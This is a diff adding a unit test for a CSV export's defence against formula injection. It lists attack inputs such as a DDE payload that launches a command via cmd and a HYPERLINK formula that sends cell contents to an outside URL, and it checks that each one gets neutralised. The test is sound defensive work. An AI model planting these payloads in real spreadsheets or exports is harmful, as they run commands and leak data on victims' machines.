@@ -62,6 +62,30 @@ describe('the CSV export', () => {
     ]);
   });
 
+  test('disarms whatever a spreadsheet takes for the beginning of a formula, and changes nothing else', () => {
+    const formulas = [
+      '=1+1',
+      "=cmd|'/C calc'!A0",
+      '+1-2',
+      '-1+2',
+      '@SUM(A1)',
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠SUM(A1)',
+      '=HYPERLINK("https://example.org?"&A1,"x")',
+    ];
+    for (const name of formulas) {
+      const [, cell] = csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1)).split(/\r\n(.*)/s);
+      expect(cell?.replace(/^"/, '').startsWith("'"), name).toBe(true);
+    }
+    for (const name of ['Åke', 'O’Neil', '1-2', 'a=b', '<script>alert(1)</script>'])
+      expect(csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1))).toBe(`Name\r\n${name}`);
+  });
+
   test('does not let a name run as a formula', () => {
     expect(csvOf([{ name: '=HYPERLINK("x")', goals: -1, percentage: null }], columns)).toContain(
       `"'=HYPERLINK(""x"")",-1`,
